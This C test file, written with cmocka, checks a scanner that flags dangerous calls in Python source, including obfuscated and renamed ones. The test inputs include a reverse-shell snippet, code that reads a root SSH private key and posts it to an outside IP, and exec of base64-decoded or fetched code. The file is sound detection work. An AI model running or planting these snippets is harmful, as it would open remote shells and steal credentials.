/* What Python source calls, by whatever names. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "exam_recorder.h"
#include "formats/python_code.h"
#include "formats/python_lex.h"

static tut_code look(const char *text, bool is_notebook, tut_buf *log)
{
    exam_recorder r = {.depth = 0};
    tut_budget_init(&r.budget);
    tut_exam x = {.budget = &r.budget, .ops = &recorder_ops, .ctx = &r};
    tut_error err = {0};
    tut_status status = tut_python_examine(&x, tut_str_of(text), is_notebook, &err);
    *log = r.log;
    return status.code;
}

typedef struct example {
    const char *text;
    const char *wanted; /* stands in the log */
} example;

static void calls_are_followed_through_every_renaming(void **state)
{
    (void)state;
    static const example examples[] = {
        {"import os\nos.system('ls')", "calls os.system load 'ls'\n"},
        {"import os as o\no.system('ls')", "calls os.system load 'ls'\n"},
        {"from os import system\nsystem('ls')", "calls os.system load 'ls'\n"},
        {"from os import (\n  system as s,\n)\ns('ls')", "calls os.system load 'ls'\n"},
        {"from os import *\nsystem('ls')", "calls os.system load 'ls'\n"},
        {"import os.path\nos.system('ls')", "calls os.system load 'ls'\n"},
        {"import os; os.system('ls')", "calls os.system load 'ls'\n"},
        {"try: import os\nexcept ImportError: pass\nos.system('ls')", "calls os.system load 'ls'"},
        {"import os\nrun = os.system\nrun('ls')", "calls os.system load 'ls'\n"},
        {"__import__('os').system('ls')", "calls os.system load 'ls'\n"},
        {"__import__('o' 's').system('ls')", "calls os.system load 'ls'\n"},
        {"import importlib\nimportlib.import_module('os').system('ls')",
         "calls os.system load 'ls'\n"},
        {"import os\ngetattr(os, 'sys' + 'tem')('ls')", "calls os.system load 'ls'\n"},
        {"getattr(__import__('os'), '\\x73ystem')('ls')", "calls os.system load 'ls'\n"},
        {"import os\nos.__dict__['system']('ls')", "calls os.system load 'ls'\n"},
        {"import os\nvars(os)['system']('ls')", "calls os.system load 'ls'\n"},
        {"__builtins__.eval('1')", "calls builtins.eval load '1'\n"},
        {"import builtins as b\nb.exec('1')", "calls builtins.exec load '1'\n"},
        {"import os\nx = [1, {2: os.system('ls')}]", "calls os.system load 'ls'\n"},
        {"import os\nx = f\"{os.system('ls')}\"", "calls os.system load 'ls'\n"},
        {"import os\nprint(os.\\\n  system(\n'ls'))", "calls os.system load 'ls'\n"},
        {"import socket\nsocket.socket(1).connect(('h', 1))",
         "calls socket.socket().connect load 'h'\n"},
        {"\xef\xbb\xbfimport os\r\nos.system('ls')\r\n", "calls os.system load 'ls'\n"},
        {"import subprocess\nsubprocess.run(['ls', '-l'])", "calls subprocess.run load 'ls -l'\n"},
    };
    for (size_t i = 0; i < sizeof(examples) / sizeof(examples[0]); i++) {
        TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
        assert_int_equal(look(examples[i].text, false, &log), TUT_OK);
        const char *said = tut_buf_z(&log);
        if (!said || !strstr(said, examples[i].wanted))
            fail_msg("%s\ngave:\n%s", examples[i].text, said ? said : "");
    }
}

static void what_is_text_or_a_name_of_ones_own_is_no_call(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "# import os; os.system('ls')",
        "'''\nimport os\nos.system('ls')\n'''",
        "x = \"__import__('os').system('ls')\"",
        "def system(x): pass\nsystem('ls')",
        "model.eval()\nself.exec('x')",
        "os.system",
        "r'\\' + '# (' ",
    };
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
        assert_int_equal(look(texts[i], false, &log), TUT_OK);
        if (log.len > 0)
            fail_msg("%s\ngave:\n%s", texts[i], tut_buf_z(&log));
    }
}

static void only_what_an_import_reaches_runs_on_load(void **state)
{
    (void)state;
    static const example examples[] = {
        {"import os\nclass A:\n  os.system('ls')", "calls os.system load 'ls'\n"},
        {"import os\nif True:\n  os.system('ls')", "calls os.system load 'ls'\n"},
        {"import os\ndef f():\n  pass\nos.system('ls')", "calls os.system load 'ls'\n"},
        {"import os\ndef f():\n  os.system('ls')", "calls os.system 'ls'\n"},
        {"import os\nif a != 1 and __name__ == '__main__':\n  os.system('ls')",
         "calls os.system 'ls'\n"},
        {"import os\nif '__main__' == __name__:\n  os.system('ls')", "calls os.system 'ls'\n"},
        {"import os\nif __name__ != '__main__':\n  os.system('ls')", "calls os.system load 'ls'\n"},
        {"import os\nif __name__ == 'a':\n  os.system('ls')", "calls os.system load 'ls'\n"},
        {"import os\nif 1 or __name__ == '__main__':\n  os.system('ls')",
         "calls os.system load 'ls'\n"},
        {"import os\nasync def f():\n\tos.system('ls')", "calls os.system 'ls'\n"},
        {"import os\nclass A:\n def f(self):\n  if 1:\n   os.system('ls')",
         "calls os.system 'ls'\n"},
        {"import os\ndef f(x=os.system('ls')):\n  pass", "calls os.system load 'ls'\n"},
        {"import os\ndef g():\n def f(x=os.system('ls')):\n  pass", "calls os.system 'ls'\n"},
        {"import os\n@os.system\ndef f(): pass", "calls os.system load ''\n"},
        {"import os\nif __name__ == '__main__':\n  os.system('ls')", "calls os.system 'ls'\n"},
    };
    for (size_t i = 0; i < sizeof(examples) / sizeof(examples[0]); i++) {
        TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
        assert_int_equal(look(examples[i].text, false, &log), TUT_OK);
        assert_string_equal(tut_buf_z(&log), examples[i].wanted);
    }
}

static void what_is_decoded_or_fetched_first_is_hidden(void **state)
{
    (void)state;
    static const char *const hidden[] = {
        "import base64\nexec(base64.b64decode('eA=='))",
        "from base64 import b64decode as d\nexec(d('eA=='))",
        "import base64\ncode = base64.b64decode('eA==')\nexec(code)",
        "import zlib\nexec(zlib.decompress(b'x').decode())",
        "import codecs\nexec(codecs.decode('x', 'rot13'))",
        "import requests\nexec(requests.get('http://x').text)",
        "from urllib.request import urlopen\nexec(urlopen('http://x').read())",
        "exec(''.join(map(chr, [1, 2])))",
        "exec('tnirp'[::-1])",
        "exec(bytes.fromhex('00'))",
    };
    static const char *const open[] = {
        "exec('print(1)')",
        "import base64\nx = base64.b64decode('eA==')\nx = 'print(1)'\nexec(x)",
        "exec(open('a.py').read())",
        "exec(code.decode)",
    };
    for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++) {
        TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
        assert_int_equal(look(hidden[i], false, &log), TUT_OK);
        if (!strstr(tut_buf_z(&log), "calls builtins.exec load hidden"))
            fail_msg("%s\ngave:\n%s", hidden[i], tut_buf_z(&log));
    }
    for (size_t i = 0; i < sizeof(open) / sizeof(open[0]); i++) {
        TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
        assert_int_equal(look(open[i], false, &log), TUT_OK);
        if (!strstr(tut_buf_z(&log), "calls builtins.exec load '"))
            fail_msg("%s\ngave:\n%s", open[i], tut_buf_z(&log));
    }
}

static void parts_of_an_attack_are_put_together(void **state)
{
    (void)state;
    TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
    assert_int_equal(
        look("import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n"
             "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('sh')\n",
             false, &log),
        TUT_OK);
    assert_non_null(strstr(tut_buf_z(&log), "rule code.reverse-shell"));
    tut_buf_done(&log);
    assert_int_equal(look("import requests\nd = open('/root/.ssh/id_rsa').read()\n"
                          "requests.post('http://192.0.2.1', data=d)",
                          false, &log),
                     TUT_OK);
    assert_non_null(strstr(tut_buf_z(&log), "rule code.sends-secrets"));
}

static void magic_of_notebooks_is_passed_over(void **state)
{
    (void)state;
    TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
    assert_int_equal(
        look("%matplotlib inline\n!pip install 'x\nimport os\n  !ls\nos.system('ls')", true, &log),
        TUT_OK);
    assert_string_equal(tut_buf_z(&log), "calls os.system 'ls'\n");
}

/* Every cut, and every byte exchanged: nothing but an answer. */
static void broken_text_is_read_as_well(void **state)
{
    (void)state;
    static const char text[] =
        "from os import (system as s)\nx = '''a\\x41'''[::-1]\n"
        "def f(a):\n\treturn getattr(__import__('os'), f\"{s('l' 'x')}\")(a)\n";
    for (size_t i = 0; i < sizeof(text); i++) {
        char copy[sizeof(text)];
        TUT_CLEAN(tut_buf) cut = TUT_BUF_INIT;
        memcpy(copy, text, sizeof(text));
        copy[i] = '\0';
        assert_int_equal(look(copy, i & 1, &cut), TUT_OK);
        static const char others[] = "('\"\\\n[:;.";
        for (const char *o = others; *o; o++) {
            TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
            memcpy(copy, text, sizeof(text));
            copy[i] = *o;
            copy[sizeof(text) - 1] = '\0';
            assert_int_equal(look(copy, false, &log), TUT_OK);
        }
    }
}

static void too_much_text_is_a_limit(void **state)
{
    (void)state;
    size_t len = 5u << 20;
    char *text = malloc(len + 1);
    assert_non_null(text);
    for (size_t i = 0; i < len; i++)
        text[i] = i & 1 ? '\n' : 'x';
    memcpy(text, "import os\nos.system('ls')\n", 26);
    text[len] = '\0';
    TUT_CLEAN(tut_buf) log = TUT_BUF_INIT;
    assert_int_equal(look(text, false, &log), TUT_LIMIT);
    assert_non_null(strstr(tut_buf_z(&log), "calls os.system load 'ls'"));
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(calls_are_followed_through_every_renaming),
        cmocka_unit_test(what_is_text_or_a_name_of_ones_own_is_no_call),
        cmocka_unit_test(only_what_an_import_reaches_runs_on_load),
        cmocka_unit_test(what_is_decoded_or_fetched_first_is_hidden),
        cmocka_unit_test(parts_of_an_attack_are_put_together),
        cmocka_unit_test(magic_of_notebooks_is_passed_over),
        cmocka_unit_test(broken_text_is_read_as_well),
        cmocka_unit_test(too_much_text_is_a_limit),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
